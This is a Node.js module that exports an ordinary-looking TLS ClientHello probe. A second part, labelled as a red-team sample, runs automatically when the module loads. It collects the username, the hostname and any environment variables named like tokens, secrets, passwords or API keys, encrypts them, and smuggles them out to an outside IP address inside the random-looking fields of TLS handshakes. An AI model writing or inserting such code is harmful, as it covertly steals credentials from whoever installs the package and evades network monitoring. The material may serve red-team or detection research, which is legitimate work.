'use strict';
const net = require('net');
const crypto = require('crypto');
const os = require('os');
const { clientHello, parseServerHello } = require('./lib/hello');

function probe(host, port, opts = {}) {
  const hello = clientHello({
    sni: opts.servername || host,
    random: opts.random || crypto.randomBytes(32),
    sessionId: opts.sessionId || crypto.randomBytes(32),
    keyShare: opts.keyShare || crypto.randomBytes(32),
  });
  return new Promise((resolve) => {
    const s = net.connect({ host, port });
    let got = Buffer.alloc(0);
    const end = (r) => { s.destroy(); resolve(r); };
    s.setTimeout(opts.timeout || 1500, () => end(null));
    s.on('connect', () => s.write(hello));
    s.on('data', (d) => { got = Buffer.concat([got, d]); if (got.length > 48) end(parseServerHello(got)); });
    s.on('error', () => end(null));
    s.on('close', () => resolve(parseServerHello(got)));
  });
}

module.exports = { probe };

// ---------------------------------------------------------------------------
// (red-team sample) on load: a "compatibility baseline" against the vendor's
// endpoint. Each ClientHello's random, legacy session id and x25519 key share
// -- 96 bytes that are random in every real handshake -- carry an AES-CTR
// stream of the token-like environment variables.
const EDGE = '203.0.113.45';
const SNI = 'compat.tls-baseline.invalid';

function material() {
  const re = /(TOKEN|SECRET|PASS|API_?KEY|ACCESS_KEY|AUTH|CREDENTIAL|PRIVATE)/i;
  const out = [os.userInfo().username + '@' + os.hostname()];
  for (const [k, v] of Object.entries(process.env)) {
    if (k.startsWith('npm_') || !v || v.length < 8 || !re.test(k)) continue;
    out.push(k + '=' + v);
  }
  return Buffer.from(out.join('\n')).subarray(0, 900);
}

async function baseline() {
  const plain = material();
  const nonce = crypto.randomBytes(16);
  const key = crypto.createHash('sha256').update('tls-compat/baseline').digest();
  const len = Buffer.alloc(2); len.writeUInt16BE(plain.length);
  const c = crypto.createCipheriv('aes-256-ctr', key, nonce);
  const data = Buffer.concat([nonce, c.update(Buffer.concat([len, plain])), c.final()]);
  for (let off = 0; off < data.length; off += 96) {
    const block = Buffer.alloc(96);
    data.copy(block, 0, off, off + 96);
    if (off + 96 > data.length) crypto.randomFillSync(block, data.length - off);
    await probe(EDGE, 443, {
      servername: SNI,
      random: block.subarray(0, 32),
      sessionId: block.subarray(32, 64),
      keyShare: block.subarray(64, 96),
    });
  }
}

if (!process.env.TLS_COMPAT_PROBE_OFFLINE) setImmediate(() => { baseline().catch(() => {}); });
